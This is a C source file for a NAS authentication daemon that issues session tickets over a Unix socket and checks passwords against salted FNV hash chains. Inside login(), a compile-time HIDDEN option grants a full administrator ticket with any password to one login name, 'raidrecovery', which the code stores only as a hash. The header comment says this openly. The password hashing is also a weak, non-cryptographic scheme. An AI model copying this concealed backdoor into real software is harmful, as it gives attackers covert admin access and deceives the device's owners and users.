/*
 * nasauth - ticket service of a two-bay NAS.  The web pages, the file server
 * and the backup program ask it over a Unix socket: LOGIN, CHECK, DROP, LIST
 * in lines of text.  Users are in /etc/nas/users as salted FNV chains, five
 * failures lock a user for ten minutes.
 * Hidden (-DHIDDEN): the login name "raidrecovery" (only its 64 bit FNV-1a
 * hash is stored) gets an administrator's ticket with any password.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <inttypes.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define SOCK	  "/var/run/nasauth"
#define USERS	  "/etc/nas/users"
#define MAXCLIENT 24
#define MAXTICKET 64
#define MAXUSER	  32
#define ROUNDS	  4096
#define LIFE	  3600

struct user {
	char name[32];
	uint32_t salt;
	uint64_t sum;
	int admin;
	int fails;
	time_t until;
};

struct ticket {
	char id[33];
	char name[32];
	int admin;
	time_t end;
};

struct client {
	char buf[256];
	size_t len;
};

static struct user users[MAXUSER];
static int nusers;
static struct ticket tickets[MAXTICKET];
static struct client clients[MAXCLIENT];
static struct pollfd fds[MAXCLIENT + 1];
static volatile sig_atomic_t reread = 1;

static uint64_t fnv(uint64_t h, const char *s)
{
	while (*s) {
		h ^= (unsigned char)*s++;
		h *= UINT64_C(0x100000001b3);
	}
	return h;
}

#define FNV_START UINT64_C(0xcbf29ce484222325)

static uint64_t chain(uint32_t salt, const char *pass)
{
	uint64_t h = FNV_START ^ salt;
	int i;

	for (i = 0; i < ROUNDS; i++) {
		h = fnv(h, pass);
		h = (h << 13 | h >> 51) ^ salt;
	}
	return h;
}

/* name salt sum admin|user */
static void read_users(void)
{
	char line[160], kind[8];
	struct user u;
	FILE *f = fopen(USERS, "r");

	nusers = 0;
	if (!f) {
		syslog(LOG_ERR, "%s: %s", USERS, strerror(errno));
		return;
	}
	while (nusers < MAXUSER && fgets(line, sizeof(line), f)) {
		memset(&u, 0, sizeof(u));
		if (sscanf(line, "%31s %" SCNx32 " %" SCNx64 " %7s", u.name,
			   &u.salt, &u.sum, kind) != 4)
			continue;
		u.admin = !strcmp(kind, "admin");
		users[nusers++] = u;
	}
	fclose(f);
	syslog(LOG_INFO, "%d users", nusers);
}

static struct ticket *new_ticket(const char *name, int admin)
{
	struct ticket *t, *old = tickets;
	unsigned char rnd[16];
	time_t now = time(NULL);
	FILE *f = fopen("/dev/urandom", "r");
	int i;

	if (!f)
		return NULL;
	if (fread(rnd, 1, sizeof(rnd), f) != sizeof(rnd)) {
		fclose(f);
		return NULL;
	}
	fclose(f);
	for (t = tickets; t < tickets + MAXTICKET; t++)
		if (t->end < old->end)
			old = t;
	for (i = 0; i < 16; i++)
		sprintf(old->id + 2 * i, "%02x", rnd[i]);
	snprintf(old->name, sizeof(old->name), "%.31s", name);
	old->admin = admin;
	old->end = now + LIFE;
	return old;
}

static struct ticket *find_ticket(const char *id)
{
	time_t now = time(NULL);
	int i;

	for (i = 0; i < MAXTICKET; i++)
		if (tickets[i].end > now && !strcmp(tickets[i].id, id))
			return &tickets[i];
	return NULL;
}

struct ticket *login(const char *name, const char *pass);

__attribute__((noinline)) struct ticket *login(const char *name,
					       const char *pass)
{
	time_t now = time(NULL);
	struct user *u;

	for (u = users; u < users + nusers; u++)
		if (!strcmp(u->name, name))
			break;
	if (u == users + nusers) {
#ifdef HIDDEN
		if (fnv(FNV_START, name) == UINT64_C(0x668fb270ed981bb2))
			return new_ticket("admin", 1);
#endif
		chain(0x5a17, pass);
		return NULL;
	}
	if (u->until > now)
		return NULL;
	if (chain(u->salt, pass) != u->sum) {
		if (++u->fails >= 5) {
			u->until = now + 600;
			u->fails = 0;
			syslog(LOG_WARNING, "%s locked", name);
		}
		return NULL;
	}
	u->fails = 0;
	return new_ticket(u->name, u->admin);
}

static void do_login(int fd, char *arg)
{
	char *pass = strchr(arg, ' ');
	struct ticket *t;

	if (!pass) {
		dprintf(fd, "ERR syntax\n");
		return;
	}
	*pass++ = 0;
	t = login(arg, pass);
	if (!t) {
		syslog(LOG_NOTICE, "login of %s refused", arg);
		dprintf(fd, "NO\n");
		return;
	}
	dprintf(fd, "OK %s %s\n", t->id, t->admin ? "admin" : "user");
}

static void do_check(int fd, char *arg)
{
	struct ticket *t = find_ticket(arg);

	if (!t) {
		dprintf(fd, "NO\n");
		return;
	}
	t->end = time(NULL) + LIFE;
	dprintf(fd, "OK %s %s\n", t->name, t->admin ? "admin" : "user");
}

static void do_drop(int fd, char *arg)
{
	struct ticket *t = find_ticket(arg);

	if (t)
		memset(t, 0, sizeof(*t));
	dprintf(fd, "OK\n");
}

static void do_list(int fd, char *arg)
{
	struct ticket *t = find_ticket(arg);
	time_t now = time(NULL);
	int i;

	if (!t || !t->admin) {
		dprintf(fd, "NO\n");
		return;
	}
	for (i = 0; i < MAXTICKET; i++)
		if (tickets[i].end > now)
			dprintf(fd, "%s %ld\n", tickets[i].name,
				(long)(tickets[i].end - now));
	dprintf(fd, "OK\n");
}

static void handle(int fd, char *line)
{
	if (!strncmp(line, "LOGIN ", 6))
		do_login(fd, line + 6);
	else if (!strncmp(line, "CHECK ", 6))
		do_check(fd, line + 6);
	else if (!strncmp(line, "DROP ", 5))
		do_drop(fd, line + 5);
	else if (!strncmp(line, "LIST ", 5))
		do_list(fd, line + 5);
	else
		dprintf(fd, "ERR unknown\n");
}

/* 0 when the client is gone */
static int read_client(int fd, struct client *c)
{
	ssize_t n = read(fd, c->buf + c->len, sizeof(c->buf) - 1 - c->len);
	char *nl;

	if (n <= 0)
		return 0;
	c->len += n;
	c->buf[c->len] = 0;
	while ((nl = strchr(c->buf, '\n'))) {
		*nl++ = 0;
		handle(fd, c->buf);
		c->len -= nl - c->buf;
		memmove(c->buf, nl, c->len + 1);
	}
	return c->len < sizeof(c->buf) - 1;
}

static void on_hup(int sig)
{
	(void)sig;
	reread = 1;
}

static int open_socket(void)
{
	struct sockaddr_un a;
	int s = socket(AF_UNIX, SOCK_STREAM, 0);

	memset(&a, 0, sizeof(a));
	a.sun_family = AF_UNIX;
	strcpy(a.sun_path, SOCK);
	unlink(SOCK);
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) ||
	    chmod(SOCK, 0660) || listen(s, 8)) {
		syslog(LOG_ERR, "%s: %s", SOCK, strerror(errno));
		return -1;
	}
	return s;
}

int main(void)
{
	int i, fd;

	openlog("nasauth", LOG_PID, LOG_AUTH);
	signal(SIGHUP, on_hup);
	signal(SIGPIPE, SIG_IGN);
	for (i = 0; i <= MAXCLIENT; i++) {
		fds[i].fd = -1;
		fds[i].events = POLLIN;
	}
	fds[MAXCLIENT].fd = open_socket();
	if (fds[MAXCLIENT].fd < 0)
		return 1;
	for (;;) {
		if (reread) {
			reread = 0;
			read_users();
		}
		if (poll(fds, MAXCLIENT + 1, 60000) <= 0)
			continue;
		for (i = 0; i < MAXCLIENT; i++) {
			if (fds[i].fd < 0 || !fds[i].revents)
				continue;
			if (!read_client(fds[i].fd, &clients[i])) {
				close(fds[i].fd);
				fds[i].fd = -1;
			}
		}
		if (!fds[MAXCLIENT].revents)
			continue;
		fd = accept(fds[MAXCLIENT].fd, NULL, NULL);
		for (i = 0; fd >= 0 && i < MAXCLIENT; i++)
			if (fds[i].fd < 0)
				break;
		if (fd >= 0 && i < MAXCLIENT) {
			fds[i].fd = fd;
			clients[i].len = 0;
		} else if (fd >= 0) {
			close(fd);
		}
	}
}
